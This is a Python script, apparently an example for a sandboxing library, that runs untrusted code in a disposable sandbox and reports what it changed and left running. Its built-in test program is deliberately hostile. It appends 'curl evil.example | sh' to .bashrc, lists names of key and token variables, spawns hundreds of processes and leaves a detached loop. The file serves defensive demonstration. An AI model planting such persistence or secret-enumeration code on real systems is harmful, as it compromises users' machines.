"""Runs code that nobody trusts, and tells what it did, what it changed and what it left running. See untrusted.md.

usage: untrusted.py [DIRECTORY [COMMAND...]]    by default a suspicious program of its own
"""

from __future__ import annotations

import json
import sys
from collections import Counter
from pathlib import Path

import hearth

#: What is inspected where nothing is named.
SUSPECT = """\
import os, pathlib, socket, subprocess
pathlib.Path("README").write_text("all your base\\n")
pathlib.Path.home().joinpath(".bashrc").open("a").write("curl evil.example | sh\\n")
print("secrets:", sorted(name for name in os.environ if "KEY" in name or "TOKEN" in name))
try:
    socket.create_connection(("1.1.1.1", 53), timeout=5)
    print("network: yes")
except OSError as error:
    print("network:", error.strerror or error)
subprocess.Popen(["sh", "-c", "while :; do sleep 10; done"], start_new_session=True)
bomb = [subprocess.Popen(["sleep", "60"]) for _ in range(500)]
"""

#: Prints the processes of the user, each with its number and command line.
RUNNING = """\
import json, os
for pid in sorted(filter(str.isdigit, os.listdir("/proc")), key=int):
    try:
        if os.stat("/proc/" + pid).st_uid == 1000:
            print(json.dumps([pid, open("/proc/" + pid + "/cmdline").read().replace(chr(0), " ").strip()]))
    except OSError:
        pass
"""


def running(box: hearth.Sandbox) -> dict[str, str]:
    """What runs, asked as root, by a program of the image's."""
    listed = box.exec(["/usr/bin/python3", "-I", "-c", RUNNING], user="root", check=True)
    return dict(json.loads(line) for line in listed.stdout.text.splitlines())


def main() -> None:
    arguments = sys.argv[1:]
    # No secrets, no variables, no ports: there is nothing to steal. It goes with this process, whatever happens, and within the hour.
    with hearth.Client() as client, client.create(lifespan="connection", ttl_seconds=3600) as box:
        if arguments:
            box.seed(Path(arguments[0]))
        else:
            box.files.write("README", "hello\n")
            box.files.write("suspect.py", SUSPECT)
            box.checkpoint()
        home = {entry.path: entry.modified_ns for entry in box.files.list(recursive=True, root="home").entries}
        before = running(box)
        limits = hearth.ResourceLimits(memory_bytes=256 << 20, pids=30, cpu_percent=100)
        suspect = box.exec(arguments[1:] or ["python3", "suspect.py"], timeout_ms=60_000, limits=limits)

        print(f"-- it ended with {suspect.exit_code} after {suspect.duration_us / 1e6:.1f} s", end="")
        print(f", {(suspect.peak_memory_bytes or 0) >> 20} MiB at most, in time: {not suspect.timed_out}")
        # What it says may hold anything, also what a terminal takes for orders.
        for line in (suspect.stdout.text + suspect.stderr.text).splitlines()[-20:]:
            print("  ", ascii(line))
        print("-- it left running")
        left = Counter(command for pid, command in running(box).items() if pid not in before)
        for command, count in left.items():
            print("  ", count, ascii(command))
        print("-- it changed in the workspace")
        for change in box.changes().changes:
            print("  ", change.change, ascii(change.path))
        print("-- it changed in the home")
        for entry in box.files.list(recursive=True, root="home").entries:
            if entry.kind == "file" and home.get(entry.path) != entry.modified_ns:
                print("  ", ascii(entry.path))


if __name__ == "__main__":
    main()
